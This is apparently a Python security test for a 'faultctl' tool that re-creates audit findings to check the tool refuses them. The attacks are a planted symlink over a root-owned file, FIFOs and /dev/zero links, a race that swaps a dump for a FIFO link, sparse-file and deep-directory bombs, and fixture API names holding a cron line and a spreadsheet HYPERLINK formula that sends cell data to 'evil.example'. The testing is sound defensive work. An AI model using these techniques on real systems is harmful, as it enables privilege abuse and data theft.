#!/usr/bin/env python3
"""`faultctl compare` and `faultctl decode-overflow` run by the operator (root) on a dump tree a
training job wrote, with the second security audit's attacks (N1, N3, N5, N10): a link planted
where the results go, FIFOs and links among the dump files and in data_name, a FIFO swapped in
under a converted overflow dump during the walk, sparse files and a deep chain of directories.
Nothing is written through a link, no FIFO is opened (a test FIFO has no writer: opening it for
reading would hang the command, which the timeouts catch), and each case is a clear error.

When the test runs as root the job's part runs as nobody (setpriv), as in the audit; otherwise
as the test's own user, which exercises the same code."""
import json
import os
import subprocess
import sys

import harness

NOBODY = 65534
IS_ROOT = os.geteuid() == 0


def run(args, *argv, cwd=None):
    env = dict(os.environ, FAULTD_SOCKET="/nonexistent/faultd.sock")
    return subprocess.run([args.faultctl, *argv], capture_output=True, text=True, cwd=cwd,
                          timeout=harness.scaled(60), env=env)


def as_job(argv, **kw):
    """Runs argv as the job: nobody when we are root, else ourselves."""
    if IS_ROOT:
        argv = ["setpriv", "--reuid=%d" % NOBODY, "--regid=%d" % NOBODY, "--clear-groups"] + argv
    return subprocess.Popen(argv, **kw)


def job_dir(path):
    os.makedirs(path, exist_ok=True)
    if IS_ROOT:
        os.chown(path, NOBODY, NOBODY)
    return path


def stats(mx):
    return {"type": "torch.Tensor", "dtype": "torch.float32", "shape": [4], "Max": mx, "Min": 0,
            "Mean": 0.5, "Norm": 1, "requires_grad": False}


def write_dump(path, apis, task="statistics", leaf=stats):
    os.makedirs(path, exist_ok=True)
    data = {api: {"input_args": [], "output": [leaf(api)]} for api in apis}
    with open(os.path.join(path, "dump.json"), "w") as f:
        json.dump({"task": task, "level": "L1", "framework": "pytorch", "data": data}, f)


def output_link(args, check, work):
    """N1 and N10: the job plants a link to a root-owned file under the result's name, and names
    an API like a cron line or a spreadsheet formula."""
    os.chmod(work, 0o755)
    victim = os.path.join(work, "victim")
    with open(victim, "w") as f:
        f.write("root-owned original content\n")
    job = job_dir(os.path.join(work, "job"))
    apis = ["* * * * * root /tmp/x #", '=HYPERLINK("http://evil.example/?"&A1,"click")']
    for side in ("npu", "bench"):
        for rank in (0, 1):
            write_dump(os.path.join(job, side, "step0", "rank%d" % rank), apis)
    p = as_job(["sh", "-c", 'mkdir results && ln -s "$1" results/compare_result_rank0.csv', "sh",
                victim], cwd=job)
    check(p.wait() == 0, "the job planted its link")
    r = run(args, "compare", "npu/step0", "bench/step0", "-o", "csv", "--output", "results/",
            cwd=job)
    check(r.returncode == 2 and "compare_result_rank0.csv: already exists (or is a link)"
          in r.stderr and "--overwrite" in r.stderr,
          "a planted link is refused with what to do (%d: %s)" % (r.returncode, r.stderr.strip()))
    with open(victim) as f:
        check(f.read() == "root-owned original content\n", "the victim is unchanged")

    r = run(args, "compare", "npu/step0", "bench/step0", "-o", "csv", "--output", "results/",
            "--overwrite", cwd=job)
    check(r.returncode == 0, "--overwrite replaces the link (%d: %s)" % (r.returncode, r.stderr))
    with open(victim) as f:
        check(f.read() == "root-owned original content\n", "the victim is still unchanged")
    result = os.path.join(job, "results", "compare_result_rank0.csv")
    check(not os.path.islink(result), "the result is a file of its own")
    with open(result) as f:
        lines = f.read().splitlines()
    check(lines[1].startswith("* * * * * root /tmp/x #.output.0,"), "row 1: %r" % lines[1][:40])
    check(lines[2].startswith("\"'=HYPERLINK("), "a formula is neutralised: %r" % lines[2][:40])

    r = run(args, "compare", "npu/step0/rank0", "bench/step0/rank0", "-o", "json", "--output",
            "results/compare_result_rank1.csv", cwd=job)
    check(r.returncode == 2 and "already exists" in r.stderr, "an existing file is not replaced")


def fifos_and_links(args, check, work):
    """N3 and N5: FIFOs and links among the dump files and in data_name, and a sparse dump."""
    os.chmod(work, 0o755)
    job = job_dir(os.path.join(work, "job"))
    for side in ("npu", "bench"):
        job_dir(os.path.join(job, side))
    p = as_job(["sh", "-c", "mkfifo npu/api_stack.pkl bench/api_stack.pkl"], cwd=job)
    check(p.wait() == 0, "the job made its FIFOs")
    r = run(args, "compare", "npu", "bench", cwd=job)
    check(r.returncode == 2 and "a FIFO, not a regular file: not opened" in r.stderr,
          "a FIFO as a dump file is refused, not opened (%d: %s)" % (r.returncode, r.stderr))

    t = job_dir(os.path.join(job, "t"))
    for side in ("npu", "bench"):
        def leaf(api):
            name = "/dev/zero" if api.startswith("Tensor.abs") else api + ".output.0.npy"
            return dict(stats(1), data_name=name)
        write_dump(os.path.join(t, side), ["Tensor.abs.0.forward", "Tensor.fifo.0.forward"],
                   task="tensor", leaf=leaf)
        job_dir(os.path.join(t, side, "dump_tensor_data"))
    p = as_job(["sh", "-c", "mkfifo fifo && for s in npu bench; do "
                "ln -s ../../fifo $s/dump_tensor_data/Tensor.fifo.0.forward.output.0.npy; done"],
               cwd=t)
    check(p.wait() == 0, "the job made its FIFO and links")
    r = run(args, "compare", os.path.join(t, "npu"), os.path.join(t, "bench"))
    check(r.returncode == 1, "unreadable tensors are warnings: exit 1 (%d: %s)"
          % (r.returncode, r.stderr.strip()))
    check("2 row(s) with a tensor file that could not be read" in r.stdout
          and "data_name must be a file name" in r.stdout and "a symbolic link" in r.stdout,
          "the summary names both: %r" % r.stdout)

    # A .pkl linked to /dev/zero, and a sparse dump.json far over the read cap.
    z = job_dir(os.path.join(job, "z"))
    p = as_job(["sh", "-c", "ln -s /dev/zero x.pkl && mkdir big && truncate -s 3G big/dump.json"],
               cwd=z)
    check(p.wait() == 0, "the job made its link and sparse file")
    r = run(args, "compare", z, z)
    check(r.returncode == 2 and "a symbolic link" in r.stderr, "a link to /dev/zero is refused")
    big = os.path.join(z, "big", "dump.json")
    r = run(args, "compare", big, big)
    check(r.returncode == 2 and "more than 1024 MiB: not read" in r.stderr,
          "a 3 GiB sparse dump.json is refused from its size (%s)" % r.stderr.strip())


DUMP = json.dumps({"AI Core": {"model_id": 514, "stream_id": 563, "task_id": 57, "task_type": 0,
                               "block_idx": 0, "status": 272}})
NAME = "OpDebug.Node_Opdebug.9.300.output.0.json"

SWAPPER = r"""
import os, sys, time
d, fifo, text = sys.argv[1], sys.argv[2], sys.argv[3]
target = os.path.join(d, %r)
while True:
    os.symlink(fifo, os.path.join(d, "tmp.l"))
    os.replace(os.path.join(d, "tmp.l"), target)
    time.sleep(0.002)
    with open(os.path.join(d, "tmp.f"), "w") as f:
        f.write(text)
    os.replace(os.path.join(d, "tmp.f"), target)
    time.sleep(0.002)
""" % NAME


def decode_overflow_race(args, check, work):
    """N3: the job swaps a converted dump between a regular file and a link to a FIFO (no
    writer) every 2 ms while decode-overflow walks the tree: the walk opens what it checked,
    so it never opens the FIFO (the audit: 4 of 8 runs hung)."""
    os.chmod(work, 0o755)
    root = job_dir(os.path.join(work, "dumps"))
    leaf = os.path.join(root, "20200808163566", "0", "11", "1")
    os.makedirs(leaf)
    for i in range(60000):  # fillers widen the window between a look and an open, as the audit
        with open(os.path.join(leaf, "filler-%d" % i), "w") as f:
            f.write("x")
    with open(os.path.join(leaf, NAME), "w") as f:
        f.write(DUMP)
    for d in (os.path.join(root, "20200808163566"), os.path.join(root, "20200808163566", "0"),
              os.path.join(root, "20200808163566", "0", "11"), leaf):
        job_dir(d)
    if IS_ROOT:
        os.chown(os.path.join(leaf, NAME), NOBODY, NOBODY)
    fifo = os.path.join(root, "fifo")
    p = as_job(["mkfifo", fifo])
    check(p.wait() == 0, "the job made its FIFO")
    swapper = as_job([sys.executable, "-c", SWAPPER, leaf, fifo, DUMP])
    try:
        codes = []
        for _ in range(8):
            try:
                codes.append(run(args, "decode-overflow", root).returncode)
            except subprocess.TimeoutExpired:
                codes.append("hung")
        check("hung" not in codes and all(c in (0, 1) for c in codes),
              "no run opened the FIFO: %r" % codes)
    finally:
        swapper.kill()
        swapper.wait()


def decode_overflow_bombs(args, check, work):
    """N5: a sparse 3 GiB converted dump, and a chain of 200 nested directories."""
    os.chmod(work, 0o755)
    root = job_dir(os.path.join(work, "dumps"))
    leaf = os.path.join(root, "20200808163566", "0", "11", "1")
    os.makedirs(leaf)
    big = os.path.join(leaf, NAME)
    with open(big, "w") as f:
        f.truncate(3 << 30)
    r = run(args, "decode-overflow", root)
    check(r.returncode == 1 and "more than 1 MiB: not read" in r.stderr,
          "a sparse 3 GiB dump is refused at the cap (%d: %s)" % (r.returncode, r.stderr.strip()))

    deep = os.path.join(work, "deep")
    os.makedirs(deep)
    fd = os.open(deep, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(200):
        os.mkdir("d", dir_fd=fd)
        nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nfd
    with open(os.open(NAME, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
        f.write(DUMP)
    os.close(fd)
    r = run(args, "decode-overflow", deep)
    check(r.returncode == 1 and "more than 32 directories below" in r.stderr,
          "a 200-deep chain stops at the depth cap (%d: %s)" % (r.returncode, r.stderr[-300:]))


if __name__ == "__main__":
    harness.main(output_link, fifos_and_links, decode_overflow_race, decode_overflow_bombs)
